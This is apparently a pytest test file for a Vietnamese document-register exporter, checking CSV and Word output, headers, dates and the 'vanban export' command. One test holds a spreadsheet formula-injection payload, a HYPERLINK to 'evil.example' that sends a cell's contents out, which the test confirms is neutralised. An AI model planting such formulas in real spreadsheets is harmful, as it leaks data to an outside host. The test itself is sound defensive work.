"""The clerk's register of documents (``index/register.py``): the CSV Excel opens
right and the Word table, made from real records (samples parsed by
``ingest.parse.parse_file``, and a real Whoosh index through ``vanban export``)."""
from __future__ import annotations

import codecs
import csv
import io

import pytest
from click.testing import CliRunner
from docx import Document
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from docx.shared import Mm, Pt

from conftest import SAMPLES, archive_of
from index import register
from index.i18n import gettext, using
from ingest.parse import parse_file
from search_cli import cli

VI_LABELS = ["STT", "Số", "Ký hiệu", "Ngày ban hành", "Loại văn bản", "Cơ quan ban hành", "Trích yếu",
             "Người ký", "Độ mật", "Độ khẩn", "Số trang", "Nơi nhận", "Cảnh báo", "Tệp"]
EN_LABELS = ["No.", "Number", "Symbol", "Date issued", "Document type", "Issuing body", "Summary (trích yếu)",
             "Signer", "Confidentiality", "Urgency", "Page count", "Recipients", "Warnings", "File"]
DOCX_VI = ["STT", "Số, ký hiệu", "Ngày ban hành", "Cơ quan ban hành", "Tên loại và trích yếu nội dung",
           "Người ký", "Nơi nhận", "Độ mật, khẩn", "Số trang", "Ghi chú"]
WARD_REPORT = {"Ký hiệu": "45/BC-UBND", "Ngày ban hành": "05/4/2024",
               "Cơ quan ban hành": "Ủy ban nhân dân phường Phổ Ninh",
               "Người ký": "Trần Minh Khoa (CHỦ TỊCH)", "Loại văn bản": "Báo cáo", "Số trang": "2"}
WARD_TITLE = "Kết quả thực hiện công tác cải cách hành chính Quý I năm 2024 và nhiệm vụ trọng tâm Quý II năm 2024"


@pytest.fixture(scope="module")
def records():
    return [parse_file(str(SAMPLES / name)).to_dict() for name in ("bc_ward_report.docx", "cv_cong_van.docx")]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)  # else Excel reads the UTF-8 as Windows-1252
    return list(csv.reader(io.StringIO(data.decode("utf-8")[1:], newline="")))


def by_label(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_the_csv_is_the_register_excel_opens_in_vietnamese(records):
    data = "".join(register.csv_chunks(records)).encode("utf-8")
    rows = read_csv(data)
    assert rows[0] == VI_LABELS
    ward, letter = by_label(rows)
    assert ward.items() >= WARD_REPORT.items() and ward["Trích yếu"] == WARD_TITLE and ward["STT"] == "1"
    assert ward["Nơi nhận"].startswith("UBND thị xã Đức Phổ; Phòng Nội vụ thị xã; ")
    assert letter["STT"] == "2" and letter["Ngày ban hành"] == "18/6/2024" and letter["Ký hiệu"] == "123/UBND-VP"
    assert letter["Nơi nhận"] == "Như trên; CT, các PCT UBND huyện; CVP, PCVP; Lưu: VT, VP."
    assert data.count(b"\r\n") == 3 and data.count(b"\n") == 3  # CRLF, and no line break of another kind


def test_english_headers_and_dates(records):
    rows = read_csv("".join(register.csv_chunks(records, lang="en")).encode("utf-8"))
    assert rows[0] == EN_LABELS
    assert by_label(rows)[0]["Date issued"] == "2024-04-05"
    assert [label for _key, label in register.COLUMNS] == EN_LABELS  # the pairs hold the English


def test_the_csv_is_streamed_a_record_at_a_time(records):
    taken = []

    def source():
        for record in records:
            taken.append(record["path"])
            yield record
    chunks = register.csv_chunks(source())
    assert next(chunks).startswith("\ufeffSTT,Số,") and taken == []
    assert "45/BC-UBND" in next(chunks) and len(taken) == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_excel_would_run_as_a_formula_is_text(start):
    title = start + 'HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    record = {"path": "x.docx", "title": title, "signer_name": "=1+1", "symbol": "45/BC-UBND"}
    (row,) = by_label(read_csv("".join(register.csv_chunks([record])).encode("utf-8")))
    assert row["Trích yếu"] == "'" + title and row["Người ký"] == "'=1+1"
    assert row["Ký hiệu"] == "45/BC-UBND"  # an ordinary cell is left as it is


def test_every_label_has_its_vietnamese():
    english = [label for _key, label in register.COLUMNS] + [c[0] for c in register.DOCX_COLUMNS] + [register.TITLE]
    with using("vi"):
        untranslated = [label for label in english if gettext(label) == label]
    assert untranslated == []
    assert register.labels("vi") == VI_LABELS and register.labels("en") == EN_LABELS


def test_register_row_is_text_for_every_column(records):
    row = register.register_row({"path": "a.txt", "pages": 3, "recipients": None, "title": "Kế hoạch\x0b2024"})
    assert list(row) == [key for key, _label in register.COLUMNS]
    assert all(isinstance(v, str) for v in row.values())
    assert row["pages"] == "3" and row["recipients"] == "" and row["title"] == "Kế hoạch 2024"


def open_docx(data: bytes):
    return Document(io.BytesIO(data))


def assert_is_register(document, symbol: str, title: str) -> None:
    section = document.sections[0]
    assert section.orientation == WD_ORIENT.LANDSCAPE
    assert abs(section.page_width - Mm(297)) < Mm(1) and abs(section.page_height - Mm(210)) < Mm(1)
    normal = document.styles["Normal"].font
    assert normal.name == "Times New Roman" and Pt(10) <= normal.size <= Pt(11)
    heading = document.paragraphs[0]
    assert heading.text == "SỔ ĐĂNG KÝ VĂN BẢN" and heading.runs[0].bold and heading.alignment == 1  # centred
    (table,) = document.tables
    header = table.rows[0]
    assert [cell.text for cell in header.cells] == DOCX_VI
    assert header._tr.trPr.find(qn("w:tblHeader")) is not None  # repeated on every page
    texts = [[cell.text for cell in row.cells] for row in table.rows[1:]]
    assert any(symbol in row[1] and title in row[4] for row in texts)


def test_the_docx_is_a_landscape_register_word_opens(records):
    document = open_docx(register.docx_bytes(iter(records), heading="Tìm: cải cách hành chính"))
    assert_is_register(document, "45/BC-UBND", WARD_TITLE)
    assert document.paragraphs[1].text == "Tìm: cải cách hành chính"
    first = [cell.text for cell in document.tables[0].rows[1].cells]
    assert first[:4] == ["1", "45/BC-UBND", "05/4/2024", "Ủy ban nhân dân phường Phổ Ninh"]
    assert first[4] == "Báo cáo\n" + WARD_TITLE and first[5] == "Trần Minh Khoa (CHỦ TỊCH)"


def test_the_docx_carries_what_xml_cannot_hold():
    record = {"path": "x.doc", "title": 'Trích\x0cyếu <b> & "c"\x00', "symbol": "1/QĐ-UBND"}
    document = open_docx(register.docx_bytes([record], lang="en"))
    assert document.tables[0].rows[0].cells[0].text == "No."
    assert [c.text for c in document.tables[0].rows[1].cells][:5] == ["1", "1/QĐ-UBND", "", "", 'Trích yếu <b> & "c" ']


# --- vanban export, on a real Whoosh index ----------------------------------------


@pytest.fixture(scope="module", params=["whoosh"])
def index(request, tmp_path_factory):
    _folder, index = archive_of(request, tmp_path_factory, {"bc_ward_report.docx": None, "cv_cong_van.docx": None})
    return index


def export(index, *args):
    return CliRunner().invoke(cli, ["export", "--index", str(index), *args])


def test_export_csv_to_a_file(index, tmp_path):
    target = tmp_path / "so-dang-ky.csv"
    result = export(index, "--format", "csv", "-o", str(target))
    assert result.exit_code == 0, result.output
    rows = read_csv(target.read_bytes())
    assert rows[0] == VI_LABELS and len(rows) == 3
    assert any(row.items() >= WARD_REPORT.items() for row in by_label(rows))
    english = read_csv(export(index, "--format", "csv", "--headers", "en").stdout.encode("utf-8"))
    assert english[0] == EN_LABELS and len(english) == 3


def test_export_docx_to_a_file(index, tmp_path):
    target = tmp_path / "so-dang-ky.docx"
    result = export(index, "--format", "docx", "-o", str(target))
    assert result.exit_code == 0, result.output
    document = open_docx(target.read_bytes())
    assert_is_register(document, "123/UBND-VP", "V/v triển khai dịch vụ công trực tuyến toàn trình năm 2024")
    assert len(document.tables[0].rows) == 3


@pytest.mark.parametrize("output", [[], ["-o", "-"]])
def test_export_docx_needs_a_file(index, output):
    result = export(index, "--format", "docx", *output)
    assert result.exit_code == 1 and result.stdout == ""
    assert result.output.splitlines() == ["Error: --format docx writes a Word file: name it with -o FILE.docx"]


@pytest.mark.parametrize("fmt", ["csv", "docx"])
def test_a_file_that_cannot_be_written_is_one_line(index, tmp_path, fmt):
    result = export(index, "--format", fmt, "-o", str(tmp_path / "no-such-folder" / f"so.{fmt}"))
    assert result.exit_code == 1
    (line,) = result.output.splitlines()
    assert line.startswith("Error: cannot write ") and "No such file or directory" in line
